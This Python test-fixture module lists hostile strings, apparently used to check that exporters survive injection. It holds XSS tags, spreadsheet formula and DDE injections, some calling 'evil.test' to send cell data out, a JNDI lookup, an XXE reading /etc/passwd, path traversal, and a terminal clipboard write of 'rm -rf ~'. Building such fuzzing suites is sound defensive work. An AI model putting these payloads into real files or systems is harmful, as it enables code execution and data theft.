"""Hostile texts, each of which has hurt some program: they go through every exporter and are parsed back."""

TERMINAL = (
    "\x1b]0;owned\x07",
    "\x1b]8;;http://evil.test\x07click\x1b]8;;\x07",
    "\x1b]9;notify\x07",
    "\x1b]52;c;cm0gLXJmIH4=\x07",
    "\x1b]777;notify;title;body\x07",
    "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1b[2J\x1b[H",
    "\x1b[6n",
    "\x1b[?1049l",
    "\x1b[31mred\x1b[0m",
    "\x1b[999999999C",
    "\x1bP+q544e\x1b\\",
    "\x1b_Gi=1;AAAA\x1b\\",
    "\x1b^private\x1b\\",
    "\x1bc",
    "\x9b2J",
    "\x9d0;owned\x9c",
    "\x90q#0\x9c",
    "\x07\x07\x07",
    "over\rwritten",
    "back\x08\x08\x08\x08space",
    "a\x0bb\x0cc",
    "\x7f\x7f",
    "\x00nul\x00",
    "\x1a",
)
"""Escape codes in seven bits and in eight, and bare controls."""

UNICODE = (
    "\u202egnp.exe",
    "\u2066isolated\u2069",
    "\u200e\u200f\u061c",
    "zero\u200bwidth\u2060joined\ufeff",
    "\u00adsoft\u00adhyphen",
    "line\u2028separator",
    "paragraph\u2029separator",
    "\x85next line",
    "Z" + "\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b" * 3,
    "\ufffe\uffff\ufdd0",
    "\U0001fffe",
    "lone \ud800 surrogate",
    "\udfff",
    "👨\u200d👩\u200d👧\u200d👦 家庭",
    "🏴\U000e0067\U000e0062\U000e007f",
    "\u3000全角空格\u3000",
    "ﷺ﷽",
    "\u0000\u0001\u0002\u0003\u0004\u0005\u0006",
    "e\u0301 and é",
    "\ue000private\uf8ff",
    "１２３＝＋－＠",
)
"""Direction, width, marks, surrogates, and code points that no XML file may hold."""

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.test?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    ",=1+1",
    '=IMPORTXML("http://evil.test","//a")',
    '=WEBSERVICE("http://evil.test")',
    "{=1+1}",
    "0001234",
    "1E5",
    "11-23",
    "%0A=1+1",
)
"""What a spreadsheet would compute, or turn into a number or a day."""

HTML = (
    "<script>alert(1)</script>",
    "<img src=http://evil.test/x.png>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "</td></tr></table><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><style>body{background:url(http://evil.test)}</style>",
    "<style>@import 'http://evil.test/x.css'</style>",
    "<link rel=stylesheet href=http://evil.test>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "<base href=http://evil.test>",
    "<!-- comment",
    "--> out",
    "]]> cdata",
    "<![CDATA[x]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "<form action=http://evil.test><input></form>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "javascript:alert(1)",
    "<b>&amp;</b>",
)
"""What a browser would run or fetch."""

MARKUP = (
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "a | b | c",
    "\\| a \\",
    "```\ncode",
    "`code`",
    "[click](http://evil.test)",
    "![picture](http://evil.test/x.png)",
    "[ref]: http://evil.test",
    "<http://evil.test>",
    "**bold** __bold__ ~~gone~~",
    "---",
    "===",
    "line\n\n# second line",
    "| --- |",
    "$x^2$",
    "[/]",
    "[@click=app.quit]quit[/]",
    "[link=http://evil.test]x[/link]",
    "[red]red",
    "{{ 7*7 }} {% raw %}",
    "${jndi:ldap://evil.test/a}",
    "%s %n %(x)s {0} {x.__class__}",
)
"""What Markdown, Textual, Rich or a template would read as its own."""

TYPST = (
    '#read("/etc/passwd")',
    '#import "@preview/x:0.1.0"',
    '#eval("1+1")',
    "#set page(width: 1pt)",
    "$ #panic() $",
    "= heading",
    "@reference <label>",
    "/* comment",
    "// comment",
    "\\#read",
    "]#panic()[",
)
"""What Typst would run."""

CALENDAR = (
    "x\r\nBEGIN:VEVENT\r\nEND:VEVENT",
    "x\nATTACH:http://evil.test",
    "semi;colon,comma\\back:slash",
    "DTSTART:19700101",
)
"""What a calendar would read as a line of its own."""

PATHS = (
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows",
    "CON",
    "a/b",
    ".hidden",
    "~root",
    "file\x00.md",
)
"""What a file name would lead out of its folder by."""

LONG = ("长" * 4000, "x" * 1_000_000, "a b " * 5000)
"""What is too long for a line, a cell or a table."""

PAYLOADS = (*TERMINAL, *UNICODE, *FORMULAS, *HTML, *MARKUP, *TYPST, *CALENDAR, *PATHS, *LONG)
"""All of them."""
